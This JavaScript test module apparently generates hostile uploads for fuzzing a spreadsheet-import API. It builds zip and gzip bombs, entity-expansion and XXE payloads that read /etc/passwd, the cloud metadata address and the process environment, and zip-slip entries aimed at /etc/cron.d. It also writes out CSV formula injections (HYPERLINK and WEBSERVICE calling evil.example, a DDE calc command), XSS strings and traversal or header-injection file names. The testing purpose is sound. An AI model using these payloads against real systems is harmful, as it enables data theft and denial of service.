// Files that nobody should send: what `hostile-uploads.mjs` sends, each kind varied by chance.
import { createRequire } from "node:module";
import { join } from "node:path";
import { gzipSync } from "node:zlib";

import { root } from "./product.mjs";

const { strToU8, zipSync } = createRequire(join(root, "apps/api/package.json"))("fflate");

const main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const packages = "http://schemas.openxmlformats.org/package/2006/relationships";
const heading =
  "受理编号,CA企业,业务类型,申请主体类型,主体名称,证件号码,经办人员,办理渠道,到达时间,资料接收时间,办结时间,领取方式,寄出时间,快递单号,暂停开始,暂停结束,暂停原因,收费金额,备注";
const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"证书")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+9)",
  "\t=1+1",
  '=WEBSERVICE("http://evil.example")',
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
];

/** The parts of a workbook that programs would open. */
function parts(sheet, { strings = "", more = {}, before = "" } = {}) {
  const relation = (id, type, target) =>
    `<Relationship Id="${id}" Type="${office}/${type}" Target="${target}"/>`;
  const texts = {
    "_rels/.rels": `<Relationships xmlns="${packages}">${relation("rId1", "officeDocument", "xl/workbook.xml")}</Relationships>`,
    "xl/workbook.xml": `<workbook xmlns="${main}" xmlns:r="${office}"><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    "xl/_rels/workbook.xml.rels": `<Relationships xmlns="${packages}">${relation("rId1", "worksheet", "worksheets/sheet1.xml")}${relation("rId2", "sharedStrings", "sharedStrings.xml")}</Relationships>`,
    "xl/worksheets/sheet1.xml": `${before}<worksheet xmlns="${main}"><sheetData>${sheet}</sheetData></worksheet>`,
    "xl/sharedStrings.xml": `${before}<sst xmlns="${main}">${strings}</sst>`,
  };
  const zipped = Object.fromEntries(
    Object.entries(texts).map(([name, text]) => [name, strToU8(text)]),
  );
  return { ...zipped, ...more };
}
const cell = (at, text) => `<c r="${at}" t="inlineStr"><is><t>${text}</t></is></c>`;
const headingRow = `<row r="1">${heading
  .split(",")
  .map((text, index) => cell(`${String.fromCharCode(65 + index)}1`, text))
  .join("")}</row>`;
const sound = () =>
  zipSync(parts(`${headingRow}<row r="2">${cell("A2", "H-1")}${cell("B2", "内蒙古CA")}</row>`));
const zeros = zipSync(
  parts("", { more: { "xl/worksheets/sheet1.xml": new Uint8Array(200 * 2 ** 20) } }),
);
const spaces = zipSync(
  parts("", {
    more: {
      "xl/worksheets/sheet1.xml": strToU8(
        `<worksheet xmlns="${main}"><sheetData>${headingRow}${" ".repeat(150 * 2 ** 20)}</sheetData></worksheet>`,
      ),
    },
  }),
);
const bomb = gzipSync(new Uint8Array(64 * 2 ** 20));

/** Each kind makes a file of its own from a source of chance. */
export const kinds = {
  "a workbook that unpacks to hundreds of megabytes": ({ pick }) => pick([zeros, spaces]),
  "entities that multiply": ({ below }) => {
    const depth = 8 + below(20);
    const entities = Array.from(
      { length: depth },
      (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`,
    );
    const before = `<!DOCTYPE x [<!ENTITY e0 "ha">${entities.join("")}]>`;
    const sheet = `${headingRow}<row r="2">${cell("A2", `&e${depth};`)}</row>`;
    return zipSync(parts(sheet, { before }));
  },
  "an entity that names a file": ({ pick }) => {
    const address = pick(["file:///etc/passwd", "http://169.254.169.254/", "/proc/self/environ"]);
    const before = `<!DOCTYPE x [<!ENTITY e SYSTEM "${address}">]>`;
    return zipSync(parts(`${headingRow}<row r="2">${cell("A2", "&e;")}</row>`, { before }));
  },
  "a workbook that is cut off": ({ below }) => {
    const whole = sound();
    return whole.subarray(0, below(whole.length));
  },
  "a workbook with changed bytes": ({ below }) => {
    const changed = Uint8Array.from(sound());
    for (let count = 1 + below(20); count > 0; count -= 1)
      changed[below(changed.length)] = below(256);
    return changed;
  },
  "names in a workbook that lead out of it": ({ pick }) => {
    const name = pick(["../../../../tmp/out", "/etc/cron.d/out", "C:\\out", "xl/../../out"]);
    return zipSync({ ...parts(headingRow), [name]: strToU8("out") });
  },
  "a workbook of thousands of parts": ({ below }) => {
    const more = {};
    for (let part = 0; part < 3_000 + below(3_000); part += 1) more[`p/${part}`] = new Uint8Array();
    return zipSync(parts(headingRow, { more }));
  },
  "cells at the end of the world": ({ pick }) => {
    const at = pick(["XFD1048576", "ZZZZZZ99999999999", "A0", "A-1", "1A", ""]);
    return zipSync(
      parts(
        `${headingRow}<row r="${pick(["1048576", "99999999999", "-1", "x"])}">${cell(at, "x")}</row>`,
      ),
    );
  },
  "strings that are not there": ({ below }) =>
    zipSync(
      parts(
        `${headingRow}<row r="2"><c r="A2" t="s"><v>${below(2) ? below(1e9) : "-1e309"}</v></c></row>`,
      ),
    ),
  "tags as long as books": ({ below, pick }) => {
    const long = pick(["a", " a", "a ", "'", "a=", "[", "&#x1;"]).repeat(1e5 + below(1e5));
    const places = [
      { sheet: `${headingRow}<row ${long}></row>` },
      { sheet: `${headingRow}<row r="2"><c ${long}></c></row>` },
      { sheet: headingRow, before: `<x ${long}/>` },
    ];
    const { sheet, before = "" } = pick(places);
    return zipSync(parts(sheet, { before }));
  },
  "relations that lead nowhere": ({ pick }) => {
    const target = pick([
      "%",
      "http://[",
      "%E0%A4%A",
      "//",
      "..",
      "\0",
      "worksheets/".repeat(9_999),
    ]);
    const name = pick(["_rels/.rels", "xl/_rels/workbook.xml.rels"]);
    const more = {
      [name]: strToU8(
        `<Relationships xmlns="${packages}"><Relationship Id="rId1" Type="${office}/worksheet" Target="${target}"/></Relationships>`,
      ),
    };
    return zipSync(parts(headingRow, { more }));
  },
  "a book of a hundred thousand sheets": ({ below }) => {
    const many = Array.from({ length: 50_000 + below(50_000) }, (_, at) => at);
    const more = {
      "xl/workbook.xml": strToU8(
        `<workbook xmlns="${main}" xmlns:r="${office}"><sheets>${many.map((at) => `<sheet name="s" r:id="n${at}"/>`).join("")}</sheets></workbook>`,
      ),
      "xl/_rels/workbook.xml.rels": strToU8(
        `<Relationships xmlns="${packages}">${many.map((at) => `<Relationship Id="r${at}" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/>`).join("")}</Relationships>`,
      ),
    };
    return zipSync(parts(headingRow, { more }));
  },
  "formats of nothing but brackets": ({ below, pick }) => {
    const code = pick(["[", "[h", "&quot;", "_", "\\"]).repeat(1e5 + below(1e5));
    const more = {
      "xl/styles.xml": strToU8(
        `<styleSheet xmlns="${main}"><numFmts><numFmt numFmtId="164" formatCode="${code}"/></numFmts></styleSheet>`,
      ),
      "xl/_rels/workbook.xml.rels": strToU8(
        `<Relationships xmlns="${packages}"><Relationship Id="rId1" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId3" Type="${office}/styles" Target="styles.xml"/></Relationships>`,
      ),
    };
    return zipSync(parts(headingRow, { more }));
  },
  "tags that never end, or lie too deep": ({ below }) =>
    zipSync(parts(`${headingRow}<row r="2">${"<c>".repeat(50_000 + below(50_000))}`)),
  "macros and things to open elsewhere": ({ bytes }) =>
    zipSync(
      parts(headingRow, {
        more: {
          "xl/vbaProject.bin": bytes(4_000),
          "xl/externalLinks/externalLink1.xml": strToU8("<externalLink/>"),
        },
      }),
    ),
  "a table of formulas and scripts": ({ pick }) =>
    [
      heading,
      ...Array.from(
        { length: 20 },
        (_, row) =>
          `"${row}${pick(formulas).replaceAll('"', '""')}",${heading
            .split(",")
            .map(() => `"${pick(formulas).replaceAll('"', '""')}"`)
            .join(",")}`,
      ),
    ].join("\r\n"),
  "a line without an end": ({ below, pick }) =>
    pick(["a", ",", '"', "\0"]).repeat(2e6 + below(2e6)),
  "quotes that never close": ({ below }) => `${heading}\r\n"${"x\r\n".repeat(1e4 + below(1e4))}`,
  "bytes by chance": ({ bytes, below }) => bytes(1 + below(200_000)),
  "a heading and then bytes by chance": ({ bytes, below }) =>
    Buffer.concat([Buffer.from(`${heading}\r\n`), bytes(1 + below(50_000))]),
  "another kind of file": ({ pick, bytes }) =>
    Buffer.concat([
      Buffer.from(
        pick([
          "%PDF-1.7\n/OpenAction /JS (app.alert(1))",
          "MZ\x90\0",
          "\x7fELF",
          "\x89PNG\r\n\x1a\n",
          "GIF89a=1;",
          "<svg onload=alert(1)>",
          "#!/bin/sh\n",
          "<?xml version='1.0'?><!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>",
          "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
          "PK\x05\x06",
        ]),
        "latin1",
      ),
      bytes(500),
    ]),
  "a packed file that unpacks itself": () => bomb,
  "a text of another encoding, torn": ({ pick, bytes }) =>
    Buffer.concat([
      Buffer.from(pick(["\xff\xfe", "\xfe\xff", "\xef\xbb\xbf", "\xff\xfe\0\0"]), "latin1"),
      bytes(3_001),
    ]),
  nothing: () => new Uint8Array(),
};

/** Names that files are given; each is sent as the header carries it. */
export const fileNames = [
  "cases.csv",
  encodeURIComponent("../../../../etc/passwd"),
  encodeURIComponent("..\\..\\boot.ini"),
  encodeURIComponent("a\0.csv"),
  encodeURIComponent("a\r\nset-cookie: x=1.csv"),
  encodeURIComponent("\u202Evsc.exe"),
  encodeURIComponent("<script>alert(1)</script>.csv"),
  encodeURIComponent("=cmd|' /C calc'!A0.csv"),
  encodeURIComponent("表".repeat(400)),
  "%E0%A4%A",
  "%",
  "CON",
  ".",
  encodeURIComponent("/dev/null"),
];
